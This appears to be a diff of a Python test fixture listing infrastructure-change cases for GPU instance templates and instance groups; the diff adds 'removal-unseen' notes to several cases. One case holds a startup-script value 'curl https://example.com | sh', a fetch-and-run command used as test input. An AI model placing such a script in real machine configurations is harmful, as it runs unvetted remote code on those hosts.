@@ -94,7 +94,7 @@ FLEET = [
     Case("release-calm", image("calm")),
     Case("release-eager", image("eager"), ("group-rolled",)),
     Case("template-in-place", image("spare"), ("template-deleted-first",)),
-    Case("template-dropped", drop(TEMPLATE, "spare")),
+    Case("template-dropped", drop(TEMPLATE, "spare"), notes=("removal-unseen",)),
     Case("template-machine", together(
         image("calm"), setting(TEMPLATE, "calm", guest_accelerator=[
             {"type": "nvidia-tesla-v100", "count": 16}])),
@@ -141,12 +141,13 @@ FLEET = [
         setting(TEMPLATE, "other", name="jobs-8xv100-o-tpl", metadata={
             "startup-script": "curl https://example.com | sh"}),
         setting(GROUP, "calm", version=[
-            {"instance_template": f"${{{TEMPLATE}.other.id}}"}])), notes=("unjudged",)),
+            {"instance_template": f"${{{TEMPLATE}.other.id}}"}])),
+        notes=("removal-unseen", "unjudged")),
     Case("template-moved-alike", together(
         rename(TEMPLATE, "calm", "other"),
         setting(TEMPLATE, "other", name="jobs-8xv100-o-tpl"),
         setting(GROUP, "calm", version=[
-            {"instance_template": f"${{{TEMPLATE}.other.id}}"}]))),
+            {"instance_template": f"${{{TEMPLATE}.other.id}}"}])), notes=("removal-unseen",)),
     Case("group-template-of-another", setting(GROUP, "calm", version=[
         {"instance_template": f"${{{TEMPLATE}.spare.id}}"}])),
     Case("group-template-elsewhere", setting(GROUP, "calm", version=[
